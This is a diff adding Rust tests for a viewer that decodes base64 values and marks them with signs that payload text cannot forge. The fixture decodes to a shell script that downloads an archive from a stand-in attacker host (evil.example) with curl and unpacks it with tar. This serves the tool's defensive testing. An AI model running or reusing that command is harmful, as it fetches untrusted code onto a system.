@@ -124,6 +124,34 @@ fn what_is_folded_is_not_covered() {
     assert_eq!(open.held_back().count(), 0);
 }
 
+#[test]
+fn opaque_values_are_read_below_them_in_signs_that_no_agent_can_write() {
+    let script = "IyEvYmluL3NoCmVjaG8gInR3aWNlIgpjdXJsIC1zIGh0dHBzOi8vZXZpbC5leGFtcGxlL3gudGd6IHwgdGFyIHh6";
+    let drawn = draw(&format!(r#"{{"run":"{script}","n":1}}"#), 200);
+    let reading = "    ‹base64, 88 characters, 66 bytes, reads \"#!/bin/sh␊echo \\\"twice\\\"␊\
+        curl -s https://evil.example/x.tgz | tar xz\"›";
+    let value = format!(r#"  "run": "{script}","#);
+    assert_eq!(drawn, ["{", value.as_str(), reading, r#"  "n": 1"#, "}"]);
+    // The very same text in a payload is another on the screen.
+    let fake = draw(&format!("[{}]", quote(reading.trim())), 400);
+    assert!(fake[1].contains("‹U+2039›base64") && fake[1].contains("‹U+203A›"), "{fake:?}");
+    // What is no text says so, and what is not looked at is counted.
+    let bytes = "iVBORw0KGgqj7yIjU1G4qQy965ymyK5M+VmSRkvpXYnMf9HFzRiWczYHOhvJ/MaoyExCl8f110fXeJYM";
+    let drawn = draw(&format!(r#"["{}"]"#, [bytes; 6].join(" ")), 600);
+    assert_eq!(drawn.len(), 8);
+    assert!(drawn[2].contains("not text: 89 50 4e 47 0d 0a 1a 0a"), "{}", drawn[2]);
+    assert_eq!(drawn[6].trim(), "‹2 more opaque›");
+}
+
+#[test]
+fn nobody_needs_to_have_seen_what_the_console_adds() {
+    let script = "IyEvYmluL3NoCmVjaG8gInR3aWNlIgpjdXJsIC1zIGh0dHBzOi8vZXZpbC5leGFtcGxlL3gudGd6IHwgdGFyIHh6";
+    let sheet = laid_out(&format!(r#"["{script}"]"#), 200, Folds::Closed);
+    let own: Vec<_> = sheet.stream().own().collect();
+    assert_eq!(own.len(), 1);
+    assert!(sheet.stream().str(&own[0]).starts_with("‹base64"));
+}
+
 /// Text of letters, signs, wide characters, marks, line feeds: what makes lines break in odd places.
 fn hostile() -> impl Strategy<Value = String> {
     let piece = prop_oneof![
